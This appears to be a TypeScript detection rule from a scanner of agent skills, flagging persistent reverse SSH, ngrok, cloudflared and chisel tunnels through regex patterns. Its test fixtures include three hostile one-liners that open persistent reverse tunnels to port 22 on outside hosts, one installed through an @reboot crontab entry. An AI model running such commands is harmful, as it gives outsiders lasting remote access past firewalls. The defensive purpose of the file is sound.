import { any, near, several } from "../matchers.ts";
import type { Rule } from "../rule.ts";

const inward = several(
  ["ssh", "autossh", "ngrok", "bore", "cloudflared", "chisel"],
  /\b(?:auto)?ssh\b[^\n]{0,160}\s-[a-z]{0,5}r\s{0,2}["']?[\w.*:$]{0,40}:22\b/,
  /\bngrok\s(?:[^\n]{0,40}\s)?tcp\s(?:[^\n]{0,20}:)?22\b|\bbore\slocal\s22\b|\bcloudflared\b[^\n]{0,80}ssh:\/\/localhost/,
  /\bchisel\sclient\b[^\n]{0,80}\sr:/,
);
const stays = several(
  [],
  /\bnohup\b|\bautossh\b|\s-[a-z]{0,3}f[a-z]{0,3}\s|\bsystemctl\b|\bcrontab\b|\blaunchagents\b|\bstricthostkeychecking[=\s]no\b|\bauthorized_keys\b|\bsetsid\b|\bdisown\b/,
);

export const backTunnel: Rule = {
  id: "run.tunnel",
  level: "critical",
  title: "opens a way in from outside that stays",
  why: "A connection that the machine itself opens lets somebody outside log in through it, past every firewall, for as long as it is up. A skill has no business with that. Refuse it, and look for the login that goes with it.",
  match: any(near(inward, stays, 300)),
  hostile: [
    "```bash\nnohup ssh -o StrictHostKeyChecking=no -N -R 0:localhost:22 t@203.0.113.8 >/dev/null 2>&1 &\n```",
    "```bash\nautossh -M 0 -f -N -R 2222:localhost:22 relay@hop.example.net\n```",
    "```bash\n(crontab -l; echo '@reboot ssh -fNR 9022:127.0.0.1:22 s@relay.example.org') | crontab -\n```",
  ],
  benign: [
    "```bash\nssh -N -L 5432:localhost:5432 me@db.example.com\n```",
    "```bash\nssh -R 80:localhost:3000 tunnel.example.com\n```",
    "```bash\nngrok http 3000\n```",
  ],
};
